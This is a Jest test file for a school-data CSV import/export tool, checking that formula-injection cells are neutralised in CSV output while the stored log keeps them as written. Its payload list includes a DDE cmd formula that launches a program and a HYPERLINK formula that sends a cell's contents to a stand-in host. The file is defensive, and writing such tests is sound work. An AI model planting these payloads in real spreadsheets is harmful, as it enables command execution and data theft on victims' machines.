import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from '@jest/globals';
import { openEventLog } from '#event-log/open';
import { say, scratchFolder } from '../import-run.js';

/** As what a spreadsheet would compute, or run. */
const HOSTILE = [
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://synthetic.example/?x="&A1,"Click")',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '＝1+1',
] as const;

const folder = scratchFolder();
const log = `sqlite:${join(folder, 'log.sqlite')}`;
const quoted = (cell: string): string => `"${cell.replaceAll('"', '""')}"`;

beforeAll(async () => {
  const schools = join(folder, 'schools.csv');
  writeFileSync(
    schools,
    [
      'school_id,name,phase,region,trust_id,alliance_id',
      ...HOSTILE.map((name, place) => `synthetic-${place},${quoted(name)},primary,London,,`),
    ].join('\n'),
  );
  expect(await say(['import', schools, '--log', log])).toMatchObject({ exitCode: 0 });
});

/** The cells of some CSV, roughly: enough to see how each begins. */
const cellsIn = (text: string): readonly string[] =>
  text
    .split(/\r?\n/)
    .flatMap((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/).map((cell) => cell.replace(/^"/, '')));

const isComputed = (cell: string): boolean =>
  /^[=+\-@\t\r＝＋－＠]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

describe('A38: a cell that a spreadsheet would compute', () => {
  it('is recorded as it was written', async () => {
    const opened = await openEventLog(log);
    const names: string[] = [];
    for await (const batch of opened.readAll({}))
      for (const { data } of batch) names.push((JSON.parse(data) as { name: string }).name);
    await opened.close();
    expect(names.toSorted()).toEqual([...HOSTILE].toSorted());
  });

  it('is made safe in every CSV of an export, and stays as it is in NDJSON', async () => {
    const to = join(folder, 'out');
    const formats = ['--format', 'csv', 'ndjson'];
    expect(await say(['export', '--to', to, '--log', log, ...formats])).toMatchObject({
      exitCode: 0,
    });
    const files = readdirSync(to).filter((name) => name.endsWith('.csv'));
    expect(files.length).toBeGreaterThan(5);
    const computed = files.flatMap((name) =>
      cellsIn(readFileSync(join(to, name), 'utf8'))
        .filter(isComputed)
        .map((cell) => `${name}: ${cell}`),
    );
    expect(computed).toEqual([]);
    const facts = readdirSync(to).find((name) => name === 'organisation_facts.ndjson')!;
    expect(readFileSync(join(to, facts), 'utf8')).toContain('=HYPERLINK(\\"http');
  });

  it('is made safe in the file of failed rows, which is read back as it was', async () => {
    const file = join(folder, 'faulty.csv');
    const header = 'school_id,name,phase,region,trust_id,alliance_id';
    writeFileSync(file, [header, ...HOSTILE.map((name) => `,${quoted(name)},primary,London,,`)].join('\n'));
    expect(await say(['import', file, '--log', log])).toMatchObject({ exitCode: 1 });
    const failed = readFileSync(join(folder, 'faulty.failed.csv'), 'utf8');
    expect(cellsIn(failed).filter(isComputed)).toEqual([]);
    const mended = join(folder, 'mended.csv');
    writeFileSync(mended, failed.replaceAll(/^,/gm, 'synthetic-0,').split('\n').slice(0, 2).join('\n'));
    expect(await say(['import', mended, '--log', log])).toMatchObject({
      stderr: expect.stringMatching(/already known +1/),
    });
  });
});
